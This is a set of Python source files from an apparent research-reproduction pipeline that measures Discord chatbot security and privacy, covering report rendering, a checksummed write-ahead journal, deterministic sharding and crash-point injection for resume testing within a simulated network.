        tag, bots = developers.most_prolific()
        sections.append("")
        sections.append(f"Most prolific developer: `{tag}` with {bots} bots.")
        sections.append("")

    trace = result.traceability_summary
    if trace is not None:
        sections.append("## Traceability (Table 2)")
        sections.append("")
        sections.append(
            _table(
                ["Feature", "Count", "Percent"],
                [[feature, count, f"{percent:.2f}%"] for feature, count, percent in trace.table2()],
            )
        )
        counts = trace.classification_counts()
        sections.append("")
        sections.append(
            f"Classes: **{counts['complete']} complete**, **{counts['partial']} partial**, "
            f"**{counts['broken']} broken** ({trace.broken_fraction * 100:.2f}% broken)."
        )
        if result.validation is not None:
            sections.append(
                f"Keyword-vs-manual validation: {result.validation.sample_size} sampled, "
                f"{result.validation.misclassified} misclassified."
            )
        sections.append("")

    code = result.code_summary
    if code is not None:
        sections.append("## Code analysis")
        sections.append("")
        sections.append(
            _table(
                ["Language", "Repos analyzed", "With checks", "Percent"],
                [
                    [language, analyzed, checks, f"{percent:.2f}%"]
                    for language, analyzed, checks, percent in code.check_table()
                ],
            )
        )
        sections.append("")
        sections.append(
            f"GitHub links: {code.github_links} ({code.github_link_percent:.2f}% of active); "
            f"valid repos {code.valid_repo_percent_of_links:.2f}% of links; "
            f"public source on {code.source_percent_of_active:.2f}% of active bots."
        )
        sections.append("")

    honeypot = result.honeypot
    if honeypot is not None:
        sections.append("## Honeypot campaign")
        sections.append("")
        rows = [
            [
                outcome.bot_name,
                ", ".join(sorted(kind.value for kind in outcome.trigger_kinds)),
                "; ".join(outcome.suspicious_messages) or "-",
            ]
            for outcome in honeypot.flagged_bots
        ] or [["(none flagged)", "-", "-"]]
        sections.append(_table(["Flagged bot", "Tokens triggered", "Post-trigger messages"], rows))
        sections.append("")
        sections.append(
            f"{honeypot.bots_tested} bots tested; precision {honeypot.precision:.2f}, "
            f"recall {honeypot.recall:.2f}; {honeypot.manual_verifications} manual verifications; "
            f"captcha spend ${honeypot.captcha_cost:.2f}."
        )
        sections.append("")

    risk = result.risk_summary
    if risk is not None and risk.scores:
        sections.append("## Population risk")
        sections.append("")
        sections.append(
            _table(
                ["Metric", "Value"],
                [
                    ["Mean risk score", f"{risk.mean_risk:.3f}"],
                    ["High-risk fraction (≥ 0.5)", f"{risk.high_risk_fraction * 100:.2f}%"],
                    ["Mean over-privilege index", f"{risk.mean_over_privilege:.3f}"],
                    ["Median risk", f"{risk.percentile(50):.3f}"],
                ],
            )
        )
        sections.append("")

    sections.append("---")
    sections.append(
        f"*Run accounting: {result.scrape_stats.pages_fetched:,} pages fetched, "
        f"{result.scrape_stats.captchas_solved} captchas solved, "
        f"{result.virtual_seconds / 3600:.1f} virtual hours, "
        f"${result.captcha_dollars:.2f} captcha spend.*"
    )
    return "\n".join(sections)
