"""Human-readable report rendering: all the paper's tables and figures."""

from __future__ import annotations

from repro.analysis.tables import render_bar_chart, render_table
from repro.core.results import PipelineResult


def render_full_report(result: PipelineResult) -> str:
    """Render everything one run measured, in the paper's order."""
    sections: list[str] = ["=== Chatbot Security & Privacy Assessment Report ===", ""]
    sections.extend(result.summary_lines())
    sections.append("")

    dist = result.permission_distribution
    if dist is not None:
        sections.append(
            render_bar_chart(
                dist.fig3_series(),
                title="Figure 3: permission request distribution (% of active bots)",
            )
        )
        invalid = dist.invalid_breakdown()
        sections.append("")
        sections.append(
            render_table(
                ("Invite outcome", "Count"),
                [("valid", dist.valid_bots)] + sorted(invalid.items()),
                title="Invite link resolution",
            )
        )
        extra_scopes = dist.extra_scope_series()
        if extra_scopes:
            sections.append("")
            sections.append(
                render_table(
                    ("Extra OAuth scope", "% of active bots"),
                    [(scope, f"{percent:.2f}%") for scope, percent in extra_scopes],
                    title="Additional scopes requested beyond 'bot'",
                )
            )
        sections.append("")

    developers = result.developer_distribution
    if developers is not None:
        rows = [
            (bot_count, dev_count, f"{percent:.2f}%")
            for bot_count, dev_count, percent in developers.table1()
        ]
        sections.append(
            render_table(
                ("No of Bots", "Developers", "Percent"),
                rows,
                title="Table 1: bots distribution by number of developers",
            )
        )
        prolific_tag, prolific_count = developers.most_prolific()
        sections.append(f"Most prolific developer: {prolific_tag} with {prolific_count} bots.")
        sections.append("")

    trace = result.traceability_summary
    if trace is not None:
        rows = [(feature, count, f"{percent:.2f}%") for feature, count, percent in trace.table2()]
        sections.append(
            render_table(("Features", "Count", "Percent"), rows, title="Table 2: Discord traceability results")
        )
        counts = trace.classification_counts()
        sections.append(
            f"Traceability classes: {counts['complete']} complete / "
            f"{counts['partial']} partial / {counts['broken']} broken."
        )
        if result.validation is not None:
            sections.append(
                f"Keyword-vs-manual validation: {result.validation.sample_size} sampled, "
                f"{result.validation.misclassified} misclassified."
            )
        sections.append("")

    code = result.code_summary
    if code is not None:
        sections.append(
            render_table(
                ("Language", "Repos analyzed", "With checks", "Percent"),
                [
                    (language, analyzed, with_checks, f"{percent:.2f}%")
                    for language, analyzed, with_checks, percent in code.check_table()
                ],
                title="Permission checks by language (Table 3 APIs)",
            )
        )
        sections.append(
            f"GitHub links: {code.github_links} ({code.github_link_percent:.2f}% of active); "
            f"valid repos: {code.valid_repos} ({code.valid_repo_percent_of_links:.2f}% of links); "
            f"with source: {code.with_source_code} ({code.source_percent_of_active:.2f}% of active)."
        )
        languages = sorted(code.language_counts().items(), key=lambda item: item[1], reverse=True)
        sections.append(
            "Languages: " + ", ".join(f"{language} {code.language_percent(language):.1f}%" for language, _ in languages[:6])
        )
        sections.append("")

    honeypot = result.honeypot
    if honeypot is not None:
        rows = [
            (
                outcome.bot_name,
                ", ".join(sorted(kind.value for kind in outcome.trigger_kinds)),
                "; ".join(outcome.suspicious_messages),
            )
            for outcome in honeypot.flagged_bots
        ]
        sections.append(
            render_table(
                ("Flagged bot", "Tokens triggered", "Post-trigger messages"),
                rows or [("(none)", "", "")],
                title=f"Honeypot campaign: {honeypot.bots_tested} bots tested",
            )
        )
        sections.append(
            f"Detection precision {honeypot.precision:.2f}, recall {honeypot.recall:.2f}; "
            f"{honeypot.manual_verifications} manual account verifications; "
            f"captcha spend ${honeypot.captcha_cost:.2f}."
        )
        sections.append("")

    if result.quarantines:
        rows = [
            (record.bot_name, record.stage, record.reason, record.root_cause)
            for record in result.quarantines.records
        ]
        sections.append(
            render_table(
                ("Quarantined bot", "Stage", "Reason", "Root cause"),
                rows,
                title="Supervision: quarantined runtimes",
            )
        )
        sections.append(result.quarantines.summary_line())
        sections.append("")

    failed = result.failed_stages
    if failed:
        sections.append(
            f"Stage(s) FAILED: {', '.join(failed)} — the corresponding sections above are "
            "omitted because the stage produced no data (not because nothing was found)."
        )
        sections.append("")
    sections.append(
        f"Run accounting: {result.scrape_stats.pages_fetched} pages fetched, "
        f"{result.scrape_stats.captchas_solved} captchas solved, "
        f"{result.virtual_seconds / 3600.0:.1f} virtual hours, "
        f"{result.wall_seconds:.1f}s wall time, ${result.captcha_dollars:.2f} captcha spend."
    )
    return "\n".join(sections)
