"""Intra-stage write-ahead journal: lose at most one bot, never a stage.

The per-stage checkpoint (:mod:`repro.core.checkpoint`) makes stage
*boundaries* durable; a crash mid-stage still used to lose every bot since
the previous boundary.  This module closes that gap with an append-only
JSONL journal that stages write to after every completed unit of work (one
bot for traceability/code analysis, one page for the crawl) and replay from
on resume.

Why a JSONL WAL beside the JSON snapshot: the snapshot is a random-access
document rewritten atomically per stage — cheap to load, expensive to
update, and all-or-nothing on a crash.  The journal is the opposite: an
append-only sequence of small records, each one durable the moment it is
flushed, where a crash can only ever damage the final record.  Torn-tail
tolerance is the contract: replay accepts the **maximal valid prefix** —
records are consumed in order until the first line that fails to parse, has
a wrong checksum, carries a non-consecutive sequence number, or is missing
its terminating newline — and everything after that point is discarded and
counted, never trusted.

Each unit record carries two things:

1. the unit's *result* (a serialized verdict / analysis / page of bots);
2. the *world-state delta* the unit caused — virtual clock, RNG streams,
   chaos schedule, circuit breakers, captcha accounts, server-side
   middleware — captured by :class:`UnitTracker` with diff suppression
   (only components that changed since the previous record are stored).

Replaying a record therefore both re-emits the unit's result *and*
fast-forwards the simulation to the exact state it held after that unit, so
the first live unit after replay sees a world byte-identical to the one the
crashed process saw.  Clock values are stored absolutely (and restored with
:meth:`~repro.web.network.VirtualClock.restore`) because accumulating float
deltas could drift a chaos-window boundary.
"""

from __future__ import annotations

import hashlib
import json
from collections import deque
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Callable

from repro.core.crashpoints import crashpoint
from repro.core.resilience import FaultLedger, FaultRecord
from repro.core.storage import DurableAppendFile
from repro.core.supervision import QuarantineLog, QuarantineRecord
from repro.web.captcha import SolveRecord


def _canonical(payload: Any) -> str:
    return json.dumps(payload, sort_keys=True, separators=(",", ":"))


def _digest(seq: int, stage: str, key: str, body: dict) -> str:
    blob = _canonical({"seq": seq, "stage": stage, "key": key, "body": body})
    return hashlib.sha256(blob.encode("utf-8")).hexdigest()


@dataclass(frozen=True)
class JournalRecord:
    """One validated journal record."""

    seq: int
    stage: str
    key: str
    body: dict


@dataclass
class JournalStats:
    """Counters surfaced through ``--metrics``."""

    appended: int = 0
    replayed: int = 0
    discarded: int = 0  # records dropped: torn tail, corruption, stale keys

    def to_dict(self) -> dict:
        return {"appended": self.appended, "replayed": self.replayed, "discarded": self.discarded}

    def merge(self, other: "JournalStats") -> None:
        self.appended += other.appended
        self.replayed += other.replayed
        self.discarded += other.discarded


class WriteAheadJournal:
    """Append-only, per-record-checksummed JSONL journal.

    Records carry a global 1-based sequence number; on open, the existing
    file is scanned once and the maximal valid prefix becomes the replayable
    record set.  The first append physically truncates any invalid tail so
    a journal can survive repeated crash/resume cycles without garbage
    accumulating mid-file.

    Durability rides through :class:`~repro.core.storage.DurableAppendFile`
    with a configurable fsync cadence.  ``fsync_every=1`` (the default)
    makes every record durable before ``append`` returns — the journal's
    acknowledgement is then worth exactly one record.  ``fsync_every=N``
    batches fsyncs for throughput (the 10^5-scale journal-overhead rung)
    at the price of a **widened torn-tail window**: a crash — or a power
    loss behind an lying disk cache — can drop up to ``N-1`` acknowledged
    records off the tail, which replay then treats exactly like a torn
    tail (the stage redoes those units deterministically).  ``0`` never
    fsyncs implicitly; durability is the caller's explicit ``sync()``.
    """

    def __init__(self, path: str | Path, *, fsync_every: int = 1) -> None:
        self.path = Path(path)
        self.stats = JournalStats()
        self.discard_detail = ""
        self.fsync_every = fsync_every
        self._file = DurableAppendFile(self.path, label="journal", fsync_every=fsync_every)
        self._truncated = False
        scanned, self._valid_bytes, dropped = self._scan()
        self._next_seq = len(scanned) + 1
        if dropped:
            self.stats.discarded += dropped
            self.discard_detail = (
                f"discarded {dropped} invalid trailing record(s) after seq {len(scanned)}"
            )

    # -- reading -----------------------------------------------------------

    def _scan(self) -> tuple[list[JournalRecord], int, int]:
        try:
            raw = self.path.read_bytes()
        except FileNotFoundError:
            return [], 0, 0
        records: list[JournalRecord] = []
        valid_bytes = 0
        offset = 0
        while offset < len(raw):
            newline = raw.find(b"\n", offset)
            if newline < 0:
                break  # unterminated line: a torn append — stop here
            line = raw[offset:newline]
            record = self._decode(line, expected_seq=len(records) + 1)
            if record is None:
                break
            records.append(record)
            offset = newline + 1
            valid_bytes = offset
        remainder = raw[valid_bytes:]
        dropped = sum(1 for piece in remainder.split(b"\n") if piece.strip())
        return records, valid_bytes, dropped

    @staticmethod
    def _decode(line: bytes, expected_seq: int) -> JournalRecord | None:
        try:
            payload = json.loads(line.decode("utf-8"))
        except (UnicodeDecodeError, json.JSONDecodeError):
            return None
        if not isinstance(payload, dict):
            return None
        try:
            seq = payload["seq"]
            stage = payload["stage"]
            key = payload["key"]
            body = payload["body"]
            sha = payload["sha"]
        except (KeyError, TypeError):
            return None
        if seq != expected_seq or not isinstance(body, dict):
            return None
        if sha != _digest(seq, stage, key, body):
            return None
        return JournalRecord(seq=seq, stage=stage, key=key, body=body)

    def pending(self, stage: str) -> list[JournalRecord]:
        """Replayable records for ``stage``, in append order.

        Scans the file on demand rather than keeping an in-RAM copy of
        every append: replay happens once per stage open while appends
        happen per unit, so the scan cost lands on the rare path and the
        hot path stays O(1) memory over a million-bot run.
        """
        self._file.flush()
        records, _, _ = self._scan()
        return [record for record in records if record.stage == stage]

    # -- writing -----------------------------------------------------------

    def append(self, stage: str, key: str, body: dict) -> JournalRecord:
        """Durably append one record (fsynced per the configured cadence).

        The write is split around the ``journal.mid_append`` crash point so
        the injection harness can manufacture a genuinely torn tail.
        """
        record = JournalRecord(seq=self._next_seq, stage=stage, key=key, body=body)
        payload = {
            "seq": record.seq,
            "stage": stage,
            "key": key,
            "body": body,
            "sha": _digest(record.seq, stage, key, body),
        }
        line = (_canonical(payload) + "\n").encode("utf-8")
        # Truncate the invalid tail exactly once per process: records
        # appended after the first open extend past ``_valid_bytes``
        # and must survive a close/reopen cycle.
        if not self._truncated:
            self._file.truncate_to(self._valid_bytes)
            self._truncated = True
        half = max(len(line) // 2, 1)
        self._file.write(line[:half])
        self._file.flush()
        crashpoint("journal.mid_append")
        self._file.write(line[half:])
        self._file.commit()
        self._next_seq += 1
        self.stats.appended += 1
        return record

    def sync(self) -> None:
        """Force (and verify) durability of every appended record."""
        self._file.sync()

    def close(self) -> None:
        self._file.close()


# ---------------------------------------------------------------------------
# World-state capture
# ---------------------------------------------------------------------------

#: Component name -> (capture, restore) factories over the tracked objects.
_Component = tuple[Callable[[], dict], Callable[[dict], None]]


class UnitTracker:
    """Captures the world-state delta one unit of stage work produces.

    Absolute components (RNG streams, breaker states, middleware counters…)
    are diff-suppressed: a unit's record stores only the components whose
    canonical serialization changed since the previous record.  Append-only
    components (captcha solve history, fault ledger, quarantine log) are
    stored as the records appended during the unit.
    """

    def __init__(
        self,
        clock,
        internet,
        ledger: FaultLedger,
        quarantines: QuarantineLog,
        breakers=None,
        budget=None,
        solver=None,
        scraper=None,
    ) -> None:
        self._clock = clock
        self._internet = internet
        self._ledger = ledger
        self._quarantines = quarantines
        self._solver = solver
        self._components: dict[str, _Component] = {}
        self._register("internet", internet.state_dict, internet.restore_state)
        chaos = getattr(internet, "chaos", None)
        if chaos is not None:
            self._register("chaos", chaos.state_dict, chaos.restore_state)
        self._register("hosts", lambda: _hosts_state(internet), lambda state: _restore_hosts(internet, state))
        if breakers is not None:
            self._register("breakers", breakers.state_dict, breakers.restore_state)
        if budget is not None:
            self._register("budget", budget.state_dict, budget.restore_state)
        if solver is not None:
            self._register("solver", solver.state_dict, solver.restore_state)
        if scraper is not None:
            self._register("scraper", scraper.state_dict, scraper.restore_state)
        self._last: dict[str, str] = {name: _canonical(capture()) for name, (capture, _) in self._components.items()}
        self._marks: dict[str, int] = {}
        self.begin_unit()

    def _register(self, name: str, capture: Callable[[], dict], restore: Callable[[dict], None]) -> None:
        self._components[name] = (capture, restore)

    def begin_unit(self) -> None:
        """Mark the append-only components before a live unit runs.

        Marks are absolute positions (``mark()``), not list indices: a
        bounded ledger's ring trim shifts indices mid-unit, and a raw slice
        would then re-ship records from *before* the unit.
        """
        self._marks = {
            "faults": self._ledger.mark(),
            "quarantines": self._quarantines.mark(),
            "solves": len(self._solver.history) if self._solver is not None else 0,
        }

    def finish_unit(self, result: dict | None) -> dict:
        """Build the journal body for the unit that just ran live."""
        body: dict[str, Any] = {"result": result, "clock": self._clock.now()}
        faults = self._ledger.records_since(self._marks["faults"])
        if faults:
            body["faults"] = [record.to_dict() for record in faults]
        quarantines = self._quarantines.records_since(self._marks["quarantines"])
        if quarantines:
            body["quarantines"] = [record.to_dict() for record in quarantines]
        if self._solver is not None:
            solves = self._solver.history[self._marks["solves"]:]
            if solves:
                body["solves"] = [vars(record).copy() for record in solves]
        changed: dict[str, dict] = {}
        for name, (capture, _) in self._components.items():
            state = capture()
            blob = _canonical(state)
            if self._last.get(name) != blob:
                changed[name] = state
                self._last[name] = blob
        if changed:
            body["state"] = changed
        return body

    def apply(self, body: dict) -> None:
        """Fast-forward the world through one replayed unit."""
        self._clock.restore(body["clock"])
        for payload in body.get("faults", ()):
            self._ledger.records.append(FaultRecord.from_dict(payload))
        for payload in body.get("quarantines", ()):
            self._quarantines.records.append(QuarantineRecord.from_dict(payload))
        if self._solver is not None:
            for payload in body.get("solves", ()):
                self._solver.history.append(SolveRecord(**payload))
        for name, state in body.get("state", {}).items():
            entry = self._components.get(name)
            if entry is not None:
                entry[1](state)
                self._last[name] = _canonical(state)
        self.begin_unit()


class StageRecorder:
    """Journal cursor for one stage's unit loop: replay a prefix, then record.

    ``try_replay(key)`` consumes the next pending record when its key
    matches the unit about to run; a key mismatch means the journal was
    written by a different configuration, so the rest of the stage's records
    are discarded rather than trusted.
    """

    def __init__(self, journal: WriteAheadJournal, stage: str, tracker: UnitTracker, ledger: FaultLedger) -> None:
        self.journal = journal
        self.stage = stage
        self.tracker = tracker
        self._ledger = ledger
        self._pending = deque(journal.pending(stage))

    def try_replay(self, key: str) -> tuple[bool, dict | None]:
        """Replay the next record if it belongs to ``key``.

        Returns ``(replayed, result_body)``.
        """
        if self._pending and self._pending[0].key == key:
            record = self._pending.popleft()
            self.tracker.apply(record.body)
            self.journal.stats.replayed += 1
            return True, record.body.get("result")
        if self._pending:
            dropped = len(self._pending)
            self._pending.clear()
            self.journal.stats.discarded += dropped
            record_resume_provenance(
                self._ledger,
                f"stage {self.stage}: discarded {dropped} journal record(s) with stale unit keys",
            )
        return False, None

    def begin_unit(self) -> None:
        self.tracker.begin_unit()

    def commit(self, key: str, result: dict | None) -> JournalRecord:
        return self.journal.append(self.stage, key, self.tracker.finish_unit(result))


def record_resume_provenance(ledger: FaultLedger, detail: str) -> None:
    """Note a journal-level event in the fault ledger.

    These records use the reserved stage name ``journal`` and are stripped
    by :func:`repro.core.serialize.comparable_result` — they describe *this
    process's* recovery, not the measurement campaign, so a resumed run must
    not diverge from its golden run by carrying them.
    """
    ledger.record("journal", "<local>", "JournalRecovery", 0.0, detail=detail)


# ---------------------------------------------------------------------------
# Whole-world snapshots (stage boundaries / honeypot stage-complete records)
# ---------------------------------------------------------------------------


def capture_world_state(clock, internet, solver, breakers) -> dict:
    """Absolute snapshot of the mutable simulation state at a stage boundary.

    Platform internals (guilds, snowflakes, join history) are deliberately
    absent: only the honeypot stage mutates them, and that stage replays
    all-or-nothing, so its inputs are always rebuilt from an exact
    pre-honeypot world.  The bounded exchange-log deque is audit-only and
    likewise excluded.
    """
    payload = {
        "clock": clock.now(),
        "internet": internet.state_dict(include_history=True),
        "solver": solver.state_dict(include_history=True),
        "hosts": _hosts_state(internet),
        "breakers": breakers.state_dict(),
    }
    chaos = getattr(internet, "chaos", None)
    if chaos is not None:
        payload["chaos"] = chaos.state_dict()
    return payload


def restore_world_state(clock, internet, solver, breakers, payload: dict) -> None:
    """Restore a :func:`capture_world_state` snapshot (exact, not additive)."""
    clock.restore(payload["clock"])
    internet.restore_state(payload["internet"])
    solver.restore_state(payload["solver"])
    _restore_hosts(internet, payload.get("hosts", {}))
    breakers.restore_state(payload.get("breakers", {}))
    chaos = getattr(internet, "chaos", None)
    if chaos is not None and "chaos" in payload:
        chaos.restore_state(payload["chaos"])


def _hosts_state(internet) -> dict:
    states: dict[str, dict] = {}
    for hostname in internet.hostnames():
        state = internet.host(hostname).state_dict()
        if state:
            states[hostname] = state
    return states


def _restore_hosts(internet, states: dict) -> None:
    for hostname, state in states.items():
        if internet.knows(hostname):
            internet.host(hostname).restore_state(state)


def solver_history_dollars(state: dict) -> float:
    """Total captcha spend recorded in a captured solver state."""
    return sum(record.get("cost", 0.0) for record in state.get("history", ()))
