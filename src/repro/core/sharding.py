"""Deterministic sharded execution for the per-bot pipeline stages.

Stages 2–4 are embarrassingly parallel: each bot's policy crawl, repo
crawl and honeypot guild are independent.  :class:`ShardedExecutor` runs
them over N isolated *shard worlds* — each with its own
:class:`~repro.web.network.VirtualClock`, its own
:class:`~repro.web.network.VirtualInternet` (sites re-registered from the
shared, read-only ecosystem), its own breaker registry, fault ledger and
captcha solver — and merges the outputs deterministically.

Determinism contract:

* Bots map to shards by a **stable hash of the bot id** (crc32), never by
  list order, so resumes and re-runs with reordered inputs shard the same
  way.
* Merge happens in **shard-index order**; callers additionally reorder
  per-bot result lists back to the input order, so the merged lists match
  a sequential run's ordering.
* Virtual time is **max across shards** (shards run concurrently in
  simulated time); captcha dollars are **summed**; fault ledgers are
  concatenated in shard-index order.
"""

from __future__ import annotations

import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any, Callable, Iterable, Sequence
from zlib import crc32

from repro.core.crashpoints import crashpoint
from repro.core.resilience import CircuitBreakerRegistry, FaultLedger, FaultRecord
from repro.core.supervision import QuarantineLog, QuarantineRecord
from repro.honeypot.experiment import HoneypotReport
from repro.web.network import VirtualClock, VirtualInternet

if TYPE_CHECKING:  # pragma: no cover - type-only
    from repro.discordsim.platform import DiscordPlatform
    from repro.web.captcha import TwoCaptchaClient


def stable_shard(key: int | str, shards: int) -> int:
    """Map a bot id to a shard index, stable across processes and runs.

    Python's builtin ``hash`` is salted per process for strings, so it
    cannot anchor a reproducible partition; crc32 over the canonical text
    form is stable everywhere and spreads sequential ids evenly.
    """
    if shards < 1:
        raise ValueError("shards must be >= 1")
    return crc32(str(key).encode("utf-8")) % shards


def partition(items: Iterable[Any], shards: int, key: Callable[[Any], int | str]) -> list[list[Any]]:
    """Split ``items`` into ``shards`` buckets by stable hash of ``key(item)``.

    Within a bucket, items keep their relative input order.
    """
    buckets: list[list[Any]] = [[] for _ in range(shards)]
    for item in items:
        buckets[stable_shard(key(item), shards)].append(item)
    return buckets


@dataclass
class ShardWorld:
    """One shard's isolated world view.

    The ecosystem itself is shared (read-only); everything stateful —
    clock, internet, platform, solver, breakers, ledger — is private to
    the shard so worker threads never contend.
    """

    index: int
    clock: VirtualClock
    internet: VirtualInternet
    platform: "DiscordPlatform"
    solver: "TwoCaptchaClient"
    breakers: CircuitBreakerRegistry
    ledger: FaultLedger = field(default_factory=FaultLedger)
    quarantines: QuarantineLog = field(default_factory=QuarantineLog)


@dataclass
class ShardOutcome:
    """What one shard produced for one stage."""

    shard_index: int
    items: list[Any]
    value: Any
    wall_seconds: float
    virtual_seconds: float
    exchanges: int
    #: Fault records this stage added to the shard's ledger.
    faults: list[FaultRecord] = field(default_factory=list)
    #: Quarantine records this stage added to the shard's log.
    quarantines: list[QuarantineRecord] = field(default_factory=list)


class ShardedExecutor:
    """Run stage workers over shard worlds and keep their clocks aligned."""

    def __init__(self, worlds: Sequence[ShardWorld]) -> None:
        if not worlds:
            raise ValueError("at least one shard world is required")
        self.worlds = list(worlds)

    @property
    def shards(self) -> int:
        return len(self.worlds)

    def run_stage(
        self,
        buckets: Sequence[list[Any]],
        worker: Callable[[ShardWorld, list[Any]], Any],
    ) -> list[ShardOutcome]:
        """Run ``worker(world, bucket)`` per shard; return outcomes in shard order.

        With a single shard the worker runs on the calling thread;
        otherwise one thread per shard.  Worker exceptions propagate in
        shard-index order.  Afterwards every shard clock is advanced to
        the max across shards (a barrier: the next stage starts with all
        shards at the same simulated time).
        """
        if len(buckets) != self.shards:
            raise ValueError(f"expected {self.shards} buckets, got {len(buckets)}")

        def run_one(world: ShardWorld, bucket: list[Any]) -> ShardOutcome:
            wall_start = time.monotonic()
            virtual_start = world.clock.now()
            exchanges_start = world.internet.exchanges_total
            # Absolute marks, not list indices: a bounded ledger's ring
            # trim shifts indices mid-stage and a raw slice would ship
            # records from before the stage as this stage's delta.
            faults_start = world.ledger.mark()
            quarantines_start = world.quarantines.mark()
            value = worker(world, bucket)
            crashpoint("sharding.after_shard")
            return ShardOutcome(
                shard_index=world.index,
                items=bucket,
                value=value,
                wall_seconds=time.monotonic() - wall_start,
                virtual_seconds=world.clock.now() - virtual_start,
                exchanges=world.internet.exchanges_total - exchanges_start,
                faults=world.ledger.records_since(faults_start),
                quarantines=world.quarantines.records_since(quarantines_start),
            )

        if self.shards == 1:
            outcomes = [run_one(self.worlds[0], list(buckets[0]))]
        else:
            with ThreadPoolExecutor(max_workers=self.shards) as pool:
                futures = [
                    pool.submit(run_one, world, list(bucket))
                    for world, bucket in zip(self.worlds, buckets)
                ]
                outcomes = [future.result() for future in futures]
        self.sync_clocks()
        return outcomes

    def sync_clocks(self) -> float:
        """Advance every shard clock to the max across shards; return it."""
        horizon = max(world.clock.now() for world in self.worlds)
        for world in self.worlds:
            world.clock.advance(horizon - world.clock.now())
        return horizon

    def captcha_dollars(self) -> float:
        """Total captcha spend across all shard solvers (merge = sum)."""
        return sum(world.solver.total_spent for world in self.worlds)


# -- merge helpers -----------------------------------------------------------


def verify_merge_accounting(
    outcomes: Sequence[ShardOutcome],
    order: Sequence[str],
    produced: Iterable[str],
    what: str,
) -> None:
    """Every bot absent from a merge must be explained, or the merge aborts.

    This is the sharded face of the :func:`~repro.core.supervision.verify_accounting`
    invariant (processed + skipped + quarantined == population): a bot may
    legitimately be missing from ``produced`` only if a shard quarantined
    it (known by name) or skipped it into a fault record (known by count —
    fault records carry ``bots_skipped``, not names).  Anything beyond that
    budget is a silently dropped bot, which used to vanish without a trace;
    now it raises :class:`~repro.core.supervision.AccountingError`.
    """
    from repro.core.supervision import AccountingError

    produced_names = set(produced)
    missing = [name for name in order if name not in produced_names]
    if not missing:
        return
    quarantined = {record.bot_name for outcome in outcomes for record in outcome.quarantines}
    unexplained = [name for name in missing if name not in quarantined]
    skip_budget = sum(record.bots_skipped for outcome in outcomes for record in outcome.faults)
    if len(unexplained) > skip_budget:
        shown = ", ".join(unexplained[:5])
        raise AccountingError(
            f"{what}: merge lost {len(unexplained)} bot(s) neither skipped nor quarantined "
            f"(fault records account for {skip_budget}): {shown}"
            + ("..." if len(unexplained) > 5 else "")
        )


def merge_in_order(
    outcomes: Sequence[ShardOutcome],
    order: Sequence[str],
    key: Callable[[Any], str],
    what: str = "merge",
) -> list[Any]:
    """Concatenate per-bot result lists, reordered to the original input order.

    Sharding regroups bots, so a plain shard-order concatenation would
    differ from the sequential run's list ordering; keying each result by
    bot and walking the input order restores it exactly.  ``order`` must
    name only bots the stage was actually given (e.g. the code stage passes
    its GitHub-linked subset): any ordered bot without a result that no
    shard recorded as skipped or quarantined raises ``AccountingError``
    instead of being silently dropped.
    """
    by_key: dict[str, Any] = {}
    for outcome in outcomes:
        for item in outcome.value:
            by_key[key(item)] = item
    verify_merge_accounting(outcomes, order, by_key, what)
    return [by_key[name] for name in order if name in by_key]


def merge_honeypot_reports(outcomes: Sequence[ShardOutcome], order: Sequence[str]) -> HoneypotReport:
    """Merge per-shard honeypot reports into one campaign report.

    Outcomes are reordered to the sampling order; triggers concatenate in
    shard-index order; account-level costs (manual verifications, captcha
    spend) and install failures sum — each shard runs its own persona
    pool, so the merged run reports the true aggregate operating cost.
    Sampled bots missing from every shard's report must be covered by the
    shards' skip/quarantine records or the merge raises ``AccountingError``.
    """
    merged = HoneypotReport()
    by_name: dict[str, Any] = {}
    for outcome in outcomes:
        report: HoneypotReport = outcome.value
        for bot_outcome in report.outcomes:
            by_name[bot_outcome.bot_name] = bot_outcome
        merged.triggers.extend(report.triggers)
        merged.manual_verifications += report.manual_verifications
        merged.install_failures += report.install_failures
        merged.captcha_cost += report.captcha_cost
    verify_merge_accounting(outcomes, order, by_name, "honeypot merge")
    merged.outcomes = [by_name[name] for name in order if name in by_name]
    return merged


def merge_fault_records(target: FaultLedger, outcomes: Sequence[ShardOutcome]) -> None:
    """Append every shard's new fault records to ``target`` in shard order."""
    for outcome in outcomes:
        target.records.extend(outcome.faults)


def merge_quarantine_records(target: QuarantineLog, outcomes: Sequence[ShardOutcome]) -> None:
    """Append every shard's new quarantine records to ``target`` in shard order."""
    for outcome in outcomes:
        target.records.extend(outcome.quarantines)
