"""Deterministic crash-point registry and injection plumbing.

Per-stage checkpoints (PR 1) and integrity-checked resume (PR 3) only prove
recovery from the crash sites someone thought to test.  This module turns
"resume works" into an enumerable property: every place the pipeline is
allowed to die is marked with :func:`crashpoint`, the full set of marks is
the static :data:`REGISTRY`, and a harness (``tests/test_crash_matrix.py``)
kills a subprocess at each registered point, resumes it, and compares the
result JSON against a never-crashed golden run.

Injection is driven by environment variables so the *production* code path
stays a single dictionary lookup when nothing is armed:

``REPRO_CRASH_AT=name[:N]``
    die with :data:`EXIT_CODE` via ``os._exit`` at the ``N``-th hit of
    crash point ``name`` (default: the first).  ``os._exit`` is the point —
    no ``atexit`` hooks, no ``finally`` blocks, no buffer flushing; the
    process vanishes as if the machine lost power.

``REPRO_CRASHPOINTS_RECORD=path``
    append one line per hit to ``path``.  The harness runs the golden run
    with this set to learn which points fire (and how often) under a given
    configuration before arming any of them.

Unit tests that want to observe hits in-process install a handler with
:func:`set_handler`; while a handler is installed the environment variables
are ignored.
"""

from __future__ import annotations

import os
import threading

ENV_CRASH_AT = "REPRO_CRASH_AT"
ENV_RECORD = "REPRO_CRASHPOINTS_RECORD"

#: Exit status used for injected crashes — the conventional SIGKILL code, so
#: a harness can tell an injected death apart from an ordinary test failure.
EXIT_CODE = 137

#: Every crash point woven through the pipeline.  :func:`crashpoint` rejects
#: names outside this tuple so the registry cannot silently drift from the
#: call sites; the harness asserts the converse (every registered name is
#: actually reachable) by running an instrumented golden run.
REGISTRY = (
    "crawl.after_page",
    "traceability.after_bot",
    "code.after_bot",
    "honeypot.after_bot",
    "honeypot.before_save",
    "journal.mid_append",
    "checkpoint.after_tmp_write",
    "pipeline.after_stage",
    "sharding.after_shard",
    "sharding.after_merge",
    "supervision.after_quarantine",
    "run.before_result",
    # Streamed-mode cadence: mid-chunk and chunk-boundary kills inside the
    # chunked stage loops, plus a kill between assembling the stream-cursor
    # checkpoint payload and writing it.  Only ``--stream`` runs hit these;
    # the crash matrix covers them with a streamed scenario.
    "stream.mid_chunk",
    "stream.after_chunk",
